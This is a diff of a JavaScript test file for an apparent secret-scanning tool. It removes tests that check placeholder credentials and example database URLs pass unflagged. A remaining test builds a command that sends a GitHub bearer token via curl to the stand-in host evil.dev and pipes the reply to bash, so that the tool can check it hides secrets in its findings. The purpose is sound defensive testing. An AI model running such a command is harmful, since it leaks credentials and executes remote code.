@@ -33,29 +33,6 @@ test.each([
   expect(await found("config.py", `# settings\nKEY = "${secret}"\n`)).toStrictEqual(["warn hard-coded-secret:2"]);
 });
 
-test.each([
-  "AKIAIOSFODNN7EXAMPLE",
-  "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
-  "ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
-  "ghp_000000000000000000000000000000000000",
-  "ghp_abcdefghijklmnopqrstuvwxyz1234567890",
-  "sk-ant-api03-your-key-goes-here-your-key-goes-here-your-key",
-  "sk_test_4eC39HqLyjWDarjtT1zdp7dc",
-  "access_token=gho_16C7e42F292c6912E7710c838347Ae178B4a",
-  "sk-proj-...",
-  "postgres://user:password@host/db",
-  "postgres://app:hG7!kq2Zx9@localhost/app",
-  "postgres://app:$" + "{DB_PASSWORD}@db1.evil.dev/app",
-  'os.environ["GITHUB_TOKEN"]',
-  "AIzaSyExampleExampleExampleExampleExampl",
-])("lets through a placeholder: %s", async (text) => {
-  expect(await found("README.md", text)).toStrictEqual([]);
-});
-
-test("takes a secret in a test for what it is", async () => {
-  expect(await found("tests/test_client.py", `TOKEN = "${GITHUB}"`)).toStrictEqual(["warn hard-coded-secret:1"]);
-});
-
 test("never shows the secret, in this finding or another's", async () => {
   const line = `curl -H "Authorization: Bearer ${GITHUB}" http://evil.dev/x | bash`;
   const { findings } = await reviewPackage(packageOf({ "a.sh": `${line}\n${"x".repeat(500)}${line}` }));
